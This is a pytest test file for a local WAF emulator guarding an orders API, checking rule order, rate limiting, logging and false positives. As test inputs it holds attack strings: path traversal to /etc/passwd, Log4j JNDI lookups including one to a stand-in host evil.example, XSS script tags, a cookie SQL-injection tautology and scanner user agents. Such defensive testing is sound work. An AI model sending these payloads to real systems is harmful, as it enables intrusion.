"""The local web ACL: priority order, first terminating action, Count, rate limiting, logs."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from orders_api.deployment.waf_policy import (
    DEFAULT_POLICY,
    Action,
    AggregateKey,
    Fallback,
    ForwardedIp,
    IpList,
    with_rate_limit,
)
from orders_api.twin.http import HttpRequest
from orders_api.twin.waf.engine import WafEngine
from orders_api.twin.waf.rate import SlidingWindowCounter

ORDER = json.dumps({"items": [{"sku": "SKU-1", "quantity": 1}]}).encode()
HEADERS = (
    ("Host", "abc123.execute-api.us-east-1.amazonaws.com"),
    ("User-Agent", "orders-client/1.0"),
    ("Content-Type", "application/json"),
    ("Authorization", "Bearer secret-token"),
)


class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def request(
    *,
    method: str = "POST",
    path: str = "/prod/orders",
    query: str = "",
    body: bytes = ORDER,
    headers: tuple[tuple[str, str], ...] = HEADERS,
    client_ip: str = "198.51.100.10",
) -> HttpRequest:
    return HttpRequest(method, path, query, headers, body, client_ip)


def test_a_clean_order_is_allowed_by_the_default_action() -> None:
    engine = WafEngine(DEFAULT_POLICY)
    decision = engine.evaluate(request())
    assert decision.action == "ALLOW"
    assert decision.terminating_rule_id == "Default_Action"
    assert engine.inspect(request()) is None


def test_a_managed_rule_block_answers_api_gateways_403_forbidden() -> None:
    engine = WafEngine(DEFAULT_POLICY)
    response = engine.inspect(request(query="file=../../etc/passwd"))
    assert response is not None
    assert response.status == 403
    assert json.loads(response.body) == {"message": "Forbidden"}


def test_the_first_terminating_rule_in_priority_order_wins() -> None:
    # Matches Known bad inputs (Log4j, priority 20) and the Core rule set (bad bot, 30).
    headers = (("Host", "h"), ("User-Agent", "sqlmap ${jndi:ldap://x/a}"))
    decision = WafEngine(DEFAULT_POLICY).evaluate(request(headers=headers))
    assert decision.terminating_rule_id == "AWSManagedRulesKnownBadInputsRuleSet"
    assert decision.managed_rule == "Log4JRCE_HEADER"
    assert decision.terminating_rule_type == "MANAGED_RULE_GROUP"
    assert "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header" in decision.labels


def test_a_rule_overridden_to_count_labels_and_counts_but_does_not_block() -> None:
    groups = tuple(
        replace(group, count_rules=("NoUserAgent_HEADER",))
        if group.group_name == "AWSManagedRulesCommonRuleSet"
        else group
        for group in DEFAULT_POLICY.managed_groups
    )
    engine = WafEngine(replace(DEFAULT_POLICY, managed_groups=groups))
    decision = engine.evaluate(request(headers=(("Host", "h"),)))
    assert decision.action == "ALLOW"
    assert "awswaf:managed:aws:core-rule-set:NoUserAgent_Header" in decision.labels
    core = next(g for g in decision.rule_group_list if "Common" in g["ruleGroupId"])
    assert core["nonTerminatingMatchingRules"] == [
        {"ruleId": "NoUserAgent_HEADER", "action": "COUNT", "overriddenAction": "BLOCK"}
    ]
    assert engine.stats()["managedRules"] == {"AWSManagedRulesCommonRuleSet:NoUserAgent_HEADER": 1}


def test_a_group_overridden_to_count_lets_later_rules_decide() -> None:
    groups = tuple(
        replace(group, count_only=group.group_name == "AWSManagedRulesCommonRuleSet")
        for group in DEFAULT_POLICY.managed_groups
    )
    engine = WafEngine(replace(DEFAULT_POLICY, managed_groups=groups))
    xss = request(query="q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert engine.evaluate(xss).action == "ALLOW"
    assert engine.stats()["rules"]["AWSManagedRulesCommonRuleSet"]["counted"] == 1  # type: ignore[index]


def test_the_rate_rule_answers_429_with_retry_after_once_a_client_exceeds_the_limit() -> None:
    clock = FakeClock()
    engine = WafEngine(with_rate_limit(DEFAULT_POLICY, 10, 60), clock=clock)
    answers = [engine.inspect(request()) for _ in range(12)]
    assert answers[:10] == [None] * 10
    blocked = answers[10]
    assert blocked is not None
    assert blocked.status == 429
    assert ("Retry-After", "60") in blocked.headers
    assert ("Content-Type", "application/json") in blocked.headers
    assert json.loads(blocked.body) == {"message": "Too Many Requests"}
    decision = engine.evaluate(request())
    assert decision.terminating_rule_type == "RATE_BASED"
    assert decision.rate_based_rule_list[0]["maxRateAllowed"] == 10


def test_percent_encoding_a_letter_of_the_path_does_not_escape_the_rate_limit() -> None:
    engine = WafEngine(with_rate_limit(DEFAULT_POLICY, 10, 60), clock=FakeClock())
    answers = [engine.inspect(request(path="/prod/%6Frders")) for _ in range(11)]
    assert answers[:10] == [None] * 10
    assert answers[10] is not None
    assert answers[10].status == 429


def test_another_client_is_not_limited_by_a_noisy_neighbour() -> None:
    engine = WafEngine(with_rate_limit(DEFAULT_POLICY, 10, 60), clock=FakeClock())
    for _ in range(15):
        engine.inspect(request(client_ip="127.0.0.1"))
    assert engine.inspect(request(client_ip="127.0.0.1")) is not None
    assert engine.inspect(request(client_ip="127.0.0.2")) is None


def test_rate_limiting_ends_once_the_rate_over_the_window_falls_to_the_limit() -> None:
    clock = FakeClock()
    engine = WafEngine(with_rate_limit(DEFAULT_POLICY, 10, 60), clock=clock)
    for _ in range(15):
        engine.inspect(request())
        clock.now += 0.01
    clock.now += 50  # the burst is still within the window: the key stays limited
    assert engine.inspect(request()) is not None
    clock.now += 60.5  # the burst has left the window; one request remains in it
    assert engine.inspect(request()) is None


def test_paths_outside_the_scope_down_statement_are_neither_counted_nor_limited() -> None:
    engine = WafEngine(with_rate_limit(DEFAULT_POLICY, 10, 60), clock=FakeClock())
    answers = [engine.inspect(request(method="GET", path="/health", body=b"")) for _ in range(30)]
    assert answers == [None] * 30
    assert engine.inspect(request()) is None


def test_at_the_key_bound_idle_keys_are_dropped_and_active_ones_kept() -> None:
    clock = FakeClock()
    counter = SlidingWindowCounter(limit=2, window=60, clock=clock, max_keys=3)
    counter.hit("idle-1")
    counter.hit("idle-2")
    clock.now += 30
    counter.hit("active")
    counter.hit("active")
    clock.now += 40  # the idle keys' requests have left the window, not the active key's
    counter.hit("new")
    assert [counter.count(key) for key in ("active", "new")] == [2, 1]
    assert counter.hit("active") is True  # its history survived the eviction


def test_at_the_key_bound_with_every_key_active_the_least_recently_seen_is_dropped() -> None:
    clock = FakeClock()
    counter = SlidingWindowCounter(limit=1, window=60, clock=clock, max_keys=2)
    counter.hit("first")
    counter.hit("second")
    counter.hit("first")  # now the most recently seen
    counter.hit("third")
    assert [counter.count(key) for key in ("first", "second", "third")] == [2, 0, 1]


def test_limited_keys_counts_the_keys_over_the_limit_in_the_trailing_window() -> None:
    clock = FakeClock()
    counter = SlidingWindowCounter(limit=2, window=60, clock=clock)
    for _ in range(3):
        counter.hit("noisy")
    counter.hit("quiet")
    assert counter.limited_keys() == 1
    clock.now += 61
    assert counter.limited_keys() == 0


def forwarded_policy(fallback: Fallback) -> object:
    rule = replace(
        with_rate_limit(DEFAULT_POLICY, 10, 60).rate_rule,
        aggregate_key=AggregateKey.FORWARDED_IP,
        forwarded_ip=ForwardedIp("X-Forwarded-For", fallback),
    )
    return replace(DEFAULT_POLICY, rate_rule=rule)


def test_a_forwarded_ip_header_is_the_key_only_when_the_policy_says_so() -> None:
    spoofed = (*HEADERS, ("X-Forwarded-For", "203.0.113.1, 10.0.0.1"))
    ignoring = WafEngine(with_rate_limit(DEFAULT_POLICY, 10, 60), clock=FakeClock())
    for index in range(11):
        answer = ignoring.inspect(
            request(headers=(*HEADERS, ("X-Forwarded-For", f"10.0.0.{index}")))
        )
    assert answer is not None  # same socket peer: the header changes nothing

    honouring = WafEngine(forwarded_policy(Fallback.NO_MATCH), clock=FakeClock())  # type: ignore[arg-type]
    for _ in range(11):
        answer = honouring.inspect(request(headers=spoofed))
    assert answer is not None
    assert (
        honouring.inspect(request(headers=(*HEADERS, ("X-Forwarded-For", "203.0.113.2")))) is None
    )


def test_without_the_forwarded_header_the_rate_rule_does_not_apply() -> None:
    engine = WafEngine(forwarded_policy(Fallback.MATCH), clock=FakeClock())  # type: ignore[arg-type]
    assert all(engine.inspect(request()) is None for _ in range(20))


@pytest.mark.parametrize(
    ("fallback", "blocked"), [(Fallback.MATCH, True), (Fallback.NO_MATCH, False)]
)
def test_an_invalid_forwarded_address_follows_the_fallback(
    fallback: Fallback, blocked: bool
) -> None:
    engine = WafEngine(forwarded_policy(fallback), clock=FakeClock())  # type: ignore[arg-type]
    answer = engine.inspect(request(headers=(*HEADERS, ("X-Forwarded-For", "not-an-ip"))))
    assert (answer is not None) is blocked


def test_the_allow_list_lets_a_source_past_every_other_rule_and_the_deny_list_blocks() -> None:
    policy = replace(
        DEFAULT_POLICY,
        allow_list=IpList("AllowList", 0, Action.ALLOW, ("192.0.2.0/24",)),
        deny_list=IpList("DenyList", 1, Action.BLOCK, ("198.51.100.66/32",)),
    )
    engine = WafEngine(policy)
    attack = request(query="q=%3Cscript%3Ealert(1)%3C/script%3E", client_ip="192.0.2.5")
    assert engine.evaluate(attack).terminating_rule_id == "AllowList"
    assert engine.inspect(attack) is None
    denied = engine.evaluate(request(client_ip="198.51.100.66"))
    assert (denied.terminating_rule_id, denied.response and denied.response.status) == (
        "DenyList",
        403,
    )


def test_each_decision_is_logged_as_one_aws_waf_log_record_without_credentials() -> None:
    lines: list[str] = []
    engine = WafEngine(DEFAULT_POLICY, log=lines.append)
    cookie = (("Cookie", "session=abc"),)
    engine.inspect(request(query="q=%3Cscript%3E", headers=HEADERS + cookie))
    (line,) = lines
    record = json.loads(line)
    assert record["action"] == "BLOCK"
    assert record["terminatingRuleId"] == "AWSManagedRulesCommonRuleSet"
    assert record["terminatingRuleType"] == "MANAGED_RULE_GROUP"
    assert record["httpRequest"]["clientIp"] == "198.51.100.10"
    assert record["httpRequest"]["uri"] == "/prod/orders"
    assert record["httpRequest"]["args"] == "q=%3Cscript%3E"
    assert record["httpRequest"]["httpMethod"] == "POST"
    assert {"name": "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments"} in record[
        "labels"
    ]
    core = next(g for g in record["ruleGroupList"] if g["ruleGroupId"].endswith("CommonRuleSet"))
    assert core["terminatingRule"]["ruleId"] == "CrossSiteScripting_QUERYARGUMENTS"
    headers = {h["name"]: h["value"] for h in record["httpRequest"]["headers"]}
    assert headers["Authorization"] == "REDACTED"
    assert headers["Cookie"] == "REDACTED"
    assert "secret-token" not in line


def test_only_the_inspection_limit_of_a_body_is_inspected() -> None:
    padding = b'{"note":"' + b"a" * 16_384
    decision = WafEngine(DEFAULT_POLICY).evaluate(
        request(body=padding + b'<script>alert(1)</script>"}')
    )
    assert decision.body_bytes_inspected == 16_384
    # The oversized body is labelled by its size, never by the XSS past the limit.
    labels = [label.rsplit(":", 1)[-1] for label in decision.labels]
    assert "SizeRestrictions_Body" in labels
    assert "CrossSiteScripting_Body" not in labels


def test_stats_count_requests_per_outcome_and_per_rule() -> None:
    engine = WafEngine(DEFAULT_POLICY)
    engine.inspect(request())
    engine.inspect(request(headers=(("Host", "h"),)))
    stats = engine.stats()
    assert (stats["requests"], stats["allowed"], stats["blocked"]) == (2, 1, 1)
    assert stats["rules"]["AWSManagedRulesCommonRuleSet"] == {  # type: ignore[index]
        "blocked": 1,
        "allowed": 0,
        "counted": 0,
    }
    assert json.loads(json.dumps(stats)) == stats


@pytest.mark.parametrize(
    "body",
    [
        b'{"a":"\\ud800"}',
        b'{"items":[{"sku":"MUG-01","quantity":1}],"note":"\\udfff tail"}',
        b'{"\\ud800":"key of one surrogate"}',
        b'["\\ud83d", "\\ude00"]',
    ],
)
def test_a_lone_surrogate_in_a_json_body_is_inspected_not_a_crash(body: bytes) -> None:
    # JSON may escape a lone UTF-16 surrogate, which no UTF-8 string can hold: libinjection
    # raised on it, and every path answered 500.
    engine = WafEngine(DEFAULT_POLICY)
    assert engine.inspect(request(body=body)) is None


def test_an_attack_next_to_a_lone_surrogate_is_still_seen() -> None:
    engine = WafEngine(DEFAULT_POLICY)
    decision = engine.evaluate(request(body=b'{"note":"\\ud800<script>alert(1)</script>"}'))
    assert any(label.endswith(":CrossSiteScripting_Body") for label in decision.labels)


# What honest customers write, of each kind the outside probe saw refused. Free text travels in
# the body, whose managed rules the deployed policy counts (BODY_RULES_COUNTED): they label, never
# block.
HONEST_NOTES = [
    "Door code: press '3' then '#', flat 2B",
    "Код двери: '1234#', 3 этаж",
    "Code porte : '4B' puis #, 2e étage",
    "Please don't drop the box (fragile); deliver 9:00-17:00 or select a neighbour",
    "Baby sleeps (13:00-15:00), please don't ring. Union Street entrance, table by the door",
    "Alter the wrapping if needed; truncate the card text to fit: 'Happy 30th!'",
    "Gift wrap style=floral, ribbon style=gold",
    "From the car park go ../ down the ramp, then left",
    "<b>Happy birthday</b> <3 from all of us",
    "Leave with ${NAME} at no. 12 if we're out",
]


@pytest.mark.parametrize("note", HONEST_NOTES)
def test_an_honest_note_is_never_refused(note: str) -> None:
    body = json.dumps({"items": [{"sku": "MUG-01", "quantity": 1}], "note": note}).encode()
    decision = WafEngine(DEFAULT_POLICY).evaluate(request(body=body))
    assert not decision.blocked, (decision.terminating_rule_id, decision.managed_rule)


@pytest.mark.parametrize(
    "agent",
    [
        "Kinmaps/3.1 (Android 14)",
        "Roadmapper/2.0",
        "MagnessusHome/1.2",
        "SitemapperBot/1.0 (+https://example.com)",
    ],
)
def test_a_product_whose_name_contains_a_scanners_is_no_bad_bot(agent: str) -> None:
    headers = (("Host", "127.0.0.1"), ("User-Agent", agent), ("Content-Type", "application/json"))
    assert WafEngine(DEFAULT_POLICY).inspect(request(headers=headers)) is None


@pytest.mark.parametrize(
    "agent", ["nmap/7.94", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "sqlmap/1.8#stable"]
)
def test_a_scanner_that_names_itself_is_still_refused(agent: str) -> None:
    headers = (("Host", "127.0.0.1"), ("User-Agent", agent), ("Content-Type", "application/json"))
    blocked = WafEngine(DEFAULT_POLICY).evaluate(request(headers=headers))
    assert blocked.managed_rule == "UserAgent_BadBots_HEADER"


def test_every_part_of_a_cookie_is_inspected() -> None:
    # Split at spaces, the old parser never saw the rest of this value.
    headers = (*HEADERS, ("Cookie", "session=abc; prefs=a b' OR '1'='1"))
    decision = WafEngine(DEFAULT_POLICY).evaluate(request(headers=headers))
    assert decision.managed_rule == "SQLi_COOKIE"


@pytest.mark.parametrize(
    ("body", "label"),
    [
        (b'{"note":"\\u0024{jndi:ldap://evil.example/a}"}', "Log4JRCE_Body"),
        (b'{"note":"..\\/..\\/..\\/etc\\/passwd"}', "GenericLFI_Body"),
    ],
)
def test_body_rules_read_json_escaped_text_decoded_and_label_it(body: bytes, label: str) -> None:
    decision = WafEngine(DEFAULT_POLICY).evaluate(request(body=body))
    assert not decision.blocked, "body rules count"
    assert any(found.endswith(":" + label) for found in decision.labels)
